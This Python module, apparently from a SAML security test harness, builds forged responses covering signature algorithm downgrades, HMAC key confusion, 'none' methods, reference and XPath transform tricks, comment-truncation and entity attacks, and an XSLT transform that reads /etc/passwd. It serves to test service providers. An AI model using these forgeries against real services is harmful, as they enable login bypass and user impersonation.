"""Cases on how signatures are made and read: algorithm downgrade and
confusion, references, IDs and transforms, canonicalisation tricks (comment
truncation, entities, namespaces). Where a case needs a signature the IdP
would never make (SHA-1, a foreign transform), the IdP's key makes it, to
see whether the SP accepts it."""
from __future__ import annotations

import xmlsec
from lxml import etree

from fedsim_harness.attack.cases_wrapping import SOMOROVSKY, genuine
from fedsim_harness.attack.catalogue import Attack, Case, Forged, doc
from fedsim_harness.attack.forge import (
    DS,
    SAML,
    assertion_of,
    hmac_key,
    new_id,
    q,
    set_identity,
    sign,
    signature_of,
    to_bytes,
)

_C = xmlsec.constants
DUO = "Duo Labs 2018, CVE-2017-11427/11428/11429/11430 (comment truncation)"


# -- algorithms ----------------------------------------------------------------

def _algorithms(digest, method, *, key=None, victim: bool = False, c14n=_C.TransformExclC14N):
    def build(a: Attack) -> Forged:
        f = a.forge
        root = f.response(a.victim if victim else None)
        chosen = key(f.signer) if key else None
        for element in (assertion_of(root), root):
            sign(element, f.signer, digest=digest, method=method, key=chosen, c14n=c14n, key_info=key is None)
        return doc(root)
    return build


def _algorithm_name(uri: str, victim: bool):
    """Signed normally, then the SignatureMethod named ``uri`` with an empty value."""
    def build(a: Attack) -> Forged:
        root = a.forge.baseline(a.victim if victim else None)
        for element in (assertion_of(root), root):
            signature = signature_of(element)
            signature.xpath(".//ds:SignatureMethod", namespaces={"ds": DS})[0].set("Algorithm", uri)
            signature.xpath("ds:SignatureValue", namespaces={"ds": DS})[0].text = ""
        return doc(root)
    return build


def _digest_name(uri: str):
    def build(a: Attack) -> Forged:
        root = a.forge.baseline()
        for element in (assertion_of(root), root):
            signature_of(element).xpath(".//ds:DigestMethod", namespaces={"ds": DS})[0].set("Algorithm", uri)
        return doc(root)
    return build


def _algorithm_cases() -> list[Case]:
    ref = "NIST SP 800-131A; SAML Core §5.4; XML Signature 1.1 §6.1"
    return [
        Case("sha1-digest", "algorithm", "RSA-SHA256 signature over SHA-1 digests", ref,
             _algorithms(_C.TransformSha1, _C.TransformRsaSha256)),
        Case("rsa-sha1-signature", "algorithm", "RSA-SHA1 signatures over SHA-256 digests", ref,
             _algorithms(_C.TransformSha256, _C.TransformRsaSha1)),
        Case("rsa-sha1-sha1", "algorithm", "RSA-SHA1 signatures over SHA-1 digests (pysaml2's default)", ref,
             _algorithms(_C.TransformSha1, _C.TransformRsaSha1)),
        Case("hmac-sha256-cert-key", "algorithm", "HMAC-SHA256 keyed with the IdP's public certificate, victim's "
             "NameID (key confusion)", "CVE-2009-0217; Somorovsky 2012 §5",
             _algorithms(_C.TransformSha256, _C.TransformHmacSha256, key=hmac_key, victim=True), victim=True),
        Case("hmac-sha1-cert-key", "algorithm", "HMAC-SHA1 keyed with the IdP's public certificate, victim's NameID",
             "CVE-2009-0217", _algorithms(_C.TransformSha1, _C.TransformHmacSha1, key=hmac_key, victim=True),
             victim=True),
        Case("signature-method-none", "algorithm", "SignatureMethod « none », empty SignatureValue, victim's NameID",
             "JWT alg=none, transposed (RFC 7515 §10.7)",
             _algorithm_name("http://www.w3.org/2000/09/xmldsig#none", True), victim=True),
        Case("signature-method-empty", "algorithm", "SignatureMethod with an empty Algorithm, victim's NameID",
             "XML Signature §4.4.2", _algorithm_name("", True), victim=True),
        Case("signature-method-unknown", "algorithm", "SignatureMethod of an unknown algorithm",
             "XML Signature §4.4.2", _algorithm_name("urn:example:attacker:rsa-nothing", False)),
        Case("digest-md5-named", "algorithm", "DigestMethod named MD5 (digests left as they were)",
             "RFC 6931 §2.1.1", _digest_name("http://www.w3.org/2001/04/xmldsig-more#md5")),
        Case("digest-unknown", "algorithm", "DigestMethod of an unknown algorithm", "XML Signature §4.4.3.5",
             _digest_name("urn:example:attacker:digest")),
        Case("c14n-inclusive", "algorithm", "Inclusive C14N 1.0 instead of exclusive canonicalisation",
             "SAML Core §5.4.3", _algorithms(_C.TransformSha256, _C.TransformRsaSha256,
                                              c14n=_C.TransformInclC14N)),
        Case("c14n11", "algorithm", "Canonical XML 1.1 instead of exclusive canonicalisation", "SAML Core §5.4.3",
             _algorithms(_C.TransformSha256, _C.TransformRsaSha256, c14n=_C.TransformInclC14N11)),
    ]


# -- references and transforms -------------------------------------------------

def _reference(uri_of, victim: bool = False):
    """The assertion's signature (made by the IdP) references ``uri_of(...)``."""
    def build(a: Attack) -> Forged:
        f = a.forge
        root = f.response(a.victim if victim else None)
        element = assertion_of(root)
        sign(element, f.signer, uri=uri_of(element, root))
        sign(root, f.signer)
        return doc(root)
    return build


def _transforms(transforms: tuple, *, xpath: str | None = None, victim_after: bool = False):
    def build(a: Attack) -> Forged:
        f = a.forge
        root = f.response()
        for element in (assertion_of(root),):
            signature = xmlsec.template.create(element, _C.TransformExclC14N, _C.TransformRsaSha256, ns="ds")
            reference = xmlsec.template.add_reference(signature, _C.TransformSha256, uri="#" + element.get("ID"))
            for transform in transforms:
                node = xmlsec.template.add_transform(reference, transform)
                if transform == _C.TransformXPath:
                    path = etree.SubElement(node, q("ds", "XPath"), nsmap={"saml": SAML, "dsig": DS})
                    path.text = xpath
            element.insert(1, signature)
            ctx = xmlsec.SignatureContext()
            ctx.register_id(element, "ID")
            ctx.key = f.signer.key
            ctx.sign(signature)
        if victim_after:
            set_identity(assertion_of(root), a.victim)
        sign(root, f.signer)
        return doc(root)
    return build


def _inserted_transform(algorithm: str, body: str = ""):
    """A transform added to the genuine signature's Reference after signing."""
    def build(a: Attack) -> Forged:
        root = a.forge.baseline()
        transforms = signature_of(assertion_of(root)).xpath(".//ds:Transforms", namespaces={"ds": DS})[0]
        transform = etree.SubElement(transforms, q("ds", "Transform"), Algorithm=algorithm)
        if body:
            transform.append(etree.fromstring(body))
        return doc(root)
    return build


def _duplicate_id(where: str):
    def build(a: Attack) -> Forged:
        root, evil = genuine(a)
        original = assertion_of(root)
        if where == "response-id":
            evil.set("ID", root.get("ID"))
            root.insert(root.index(original), evil)
        elif where == "attribute":   # the evil assertion carries the ID as a differently named attribute
            evil.set("ID", new_id())
            evil.set("Id", original.get("ID"))
            root.insert(root.index(original), evil)
        return doc(root)
    return build


def _two_references(a: Attack) -> Forged:
    f = a.forge
    root = f.response()
    element = assertion_of(root)
    signature = xmlsec.template.create(element, _C.TransformExclC14N, _C.TransformRsaSha256, ns="ds")
    for uri in ("#" + element.get("ID"), "#" + root.get("ID")):
        reference = xmlsec.template.add_reference(signature, _C.TransformSha256, uri=uri)
        xmlsec.template.add_transform(reference, _C.TransformEnveloped)
        xmlsec.template.add_transform(reference, _C.TransformExclC14N)
    element.insert(1, signature)
    ctx = xmlsec.SignatureContext()
    ctx.register_id(element, "ID")
    ctx.register_id(root, "ID")
    ctx.key = f.signer.key
    ctx.sign(signature)
    sign(root, f.signer)
    return doc(root)


XSLT = ('<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:value-of select="unparsed-text(\'file:///etc/passwd\')"/></xsl:template>'
        '</xsl:stylesheet>')


def _references() -> list[Case]:
    ref = "SAML Core §5.4.2 (the Reference must point at the signed element's ID)"
    return [
        Case("reference-empty-uri", "reference", "Assertion signature with Reference URI=\"\" (the whole document)",
             ref, _reference(lambda e, r: "")),
        Case("reference-response-id", "reference", "Assertion signature referencing the Response's ID", ref,
             _reference(lambda e, r: "#" + r.get("ID"))),
        Case("reference-xpointer-id", "reference", "Reference URI #xpointer(id('…'))", "XML Signature §4.4.3.3",
             _reference(lambda e, r: f"#xpointer(id('{e.get('ID')}'))")),
        Case("reference-xpointer-root", "reference", "Reference URI #xpointer(/) (the whole document)",
             "XML Signature §4.4.3.3", _reference(lambda e, r: "#xpointer(/)")),
        Case("reference-two", "reference", "One SignedInfo with two References (assertion and Response)", ref,
             _two_references),
        Case("duplicate-id-response", "reference", "An evil assertion carrying the Response's ID before the "
             "signed one", "SAML Core §1.3.4 (ID uniqueness); " + SOMOROVSKY, _duplicate_id("response-id"),
             victim=True),
        Case("duplicate-id-other-attribute", "reference", "An evil assertion whose « Id » attribute repeats the "
             "signed assertion's ID", "CVE-2022-39299 (passport-saml)", _duplicate_id("attribute"), victim=True),
        Case("transform-xpath-excludes-nameid", "reference", "IdP-signed with an XPath transform leaving NameID out, "
             "then NameID changed to the victim's", "XML Signature §6.6.3; SAML Core §5.4.4 (only enveloped + "
             "exc-c14n)", _transforms((_C.TransformEnveloped, _C.TransformXPath, _C.TransformExclC14N),
                                      xpath="not(ancestor-or-self::saml:Subject)", victim_after=True),
             victim=True),
        Case("transform-xpath-nothing", "reference", "IdP-signed with an XPath transform selecting nothing, then "
             "changed to the victim", "XML Signature §6.6.3",
             _transforms((_C.TransformEnveloped, _C.TransformXPath), xpath="false()", victim_after=True),
             victim=True),
        Case("transform-xslt", "reference", "An XSLT transform added to the Reference (code execution class)",
             "CVE-2007-4358 class; XML Signature Best Practices §2.1.1",
             _inserted_transform("http://www.w3.org/TR/1999/REC-xslt-19991116", XSLT)),
        Case("transform-base64", "reference", "A base64 transform added to the Reference", "XML Signature §6.6.2",
             _inserted_transform("http://www.w3.org/2000/09/xmldsig#base64")),
        Case("transform-many-c14n", "reference", "IdP-signed with the exc-c14n transform repeated six times",
             "XML Signature Best Practices §2.1.4 (transform DoS)",
             _transforms((_C.TransformEnveloped, *([_C.TransformExclC14N] * 6)))),
        Case("transform-no-enveloped", "reference", "IdP-signed with no enveloped-signature transform (only "
             "exc-c14n)", "SAML Core §5.4.4", _transforms((_C.TransformExclC14N,))),
    ]


# -- canonicalisation ------------------------------------------------------------

def _commented(where: str, node: str = "comment"):
    """The IdP signs a look-alike of the victim (each value + « .attacker »);
    a comment (or PI) then cuts the suffix off in the signed text."""
    def build(a: Attack) -> Forged:
        f = a.forge
        suffix = ".attacker"
        lookalike = a.victim.with_suffix(suffix)
        root = f.response(lookalike)
        targets = []
        assertion = assertion_of(root)
        if where in ("nameid", "all"):
            targets.append(assertion.find(f".//{q('saml', 'NameID')}"))
        if where in ("attributes", "all"):
            targets.extend(assertion.iter(q("saml", "AttributeValue")))
        f.signed(root)
        for element in targets:
            text = element.text or ""
            if not text.endswith(suffix):
                continue
            element.text = text[:-len(suffix)]
            marker = etree.Comment("") if node == "comment" else etree.ProcessingInstruction("x", "y")
            marker.tail = suffix
            element.insert(0, marker)
        return doc(root)
    return build


def _whitespace_after_signing(a: Attack) -> Forged:
    root = a.forge.baseline()
    name_id = assertion_of(root).find(f".//{q('saml', 'NameID')}")
    name_id.text = "\n " + name_id.text + " \n"
    return doc(root)


def _entity_in_nameid(a: Attack) -> Forged:
    """DOCTYPE with an internal entity: the IdP signed the look-alike
    « victim.attacker », written as victim&s; — a parser that does not expand
    entities reads the victim."""
    f = a.forge
    lookalike = a.victim.with_suffix(".attacker")
    root = f.signed(f.response(lookalike))
    text = to_bytes(root).decode("utf-8")
    text = text.replace(f">{lookalike.name_id}<", f">{a.victim.name_id}&s;<")
    for values in lookalike.attributes.values():
        for value in values:
            text = text.replace(f">{value}<", f">{value[:-len('.attacker')]}&s;<")
    head, _, body = text.partition("?>")
    return Forged(xml=(head + '?><!DOCTYPE samlp:Response [<!ENTITY s ".attacker">]>' + body).encode("utf-8"))


def _prefix_rebinding(a: Attack) -> Forged:
    """An evil assertion in a look-alike namespace (SAML 1.0's) placed first,
    named with the saml prefix: a parser that matches on prefix or local name takes it."""
    root, evil = genuine(a)
    fake = etree.fromstring(etree.tostring(evil).replace(SAML.encode(), b"urn:oasis:names:tc:SAML:1.0:assertion"))
    root.insert(root.index(assertion_of(root)), fake)
    return doc(root)


def _namespace_redefined_in_nameid(a: Attack) -> Forged:
    """Genuine signatures; the NameID's namespace rebound to a foreign one on the element."""
    root = a.forge.baseline()
    text = to_bytes(root).decode("utf-8")
    text = text.replace("<saml:NameID ", '<saml:NameID xmlns:saml="urn:example:attacker" ', 1)
    return Forged(xml=text.encode("utf-8"))


def _c14n() -> list[Case]:
    return [
        Case("comment-in-nameid", "c14n", "A comment cuts « .attacker » off a signed look-alike NameID", DUO,
             _commented("nameid"), victim=True),
        Case("comment-in-attributes", "c14n", "A comment cuts « .attacker » off every signed attribute value", DUO,
             _commented("attributes"), victim=True),
        Case("comment-everywhere", "c14n", "Comments cut the suffix off the NameID and every attribute", DUO,
             _commented("all"), victim=True),
        Case("pi-in-nameid", "c14n", "A processing instruction splits the NameID and attributes (c14n keeps "
             "PIs: the signatures break)", DUO + "; XML 1.0 §2.6; Exclusive XML Canonicalization §1.1",
             _commented("all", "pi"), victim=True),
        Case("entity-in-nameid", "c14n", "An internal entity completes the victim's NameID into the signed "
             "look-alike", "CVE-2017-11427 family; XML 1.0 §4.1", _entity_in_nameid, victim=True),
        Case("whitespace-after-signing", "c14n", "Whitespace added around the signed NameID", "XML Signature "
             "§4.4.3.5 (digests cover text exactly)", _whitespace_after_signing),
        Case("lookalike-namespace-first", "c14n", "An evil assertion in the SAML 1.0 namespace (same prefix) "
             "before the signed one", "Namespaces in XML §3; " + SOMOROVSKY, _prefix_rebinding, victim=True),
        Case("namespace-redefined-nameid", "c14n", "The NameID's prefix rebound to a foreign namespace on the "
             "element", "Exclusive XML Canonicalization §3", _namespace_redefined_in_nameid),
    ]


CASES: tuple[Case, ...] = (*_algorithm_cases(), *_references(), *_c14n())
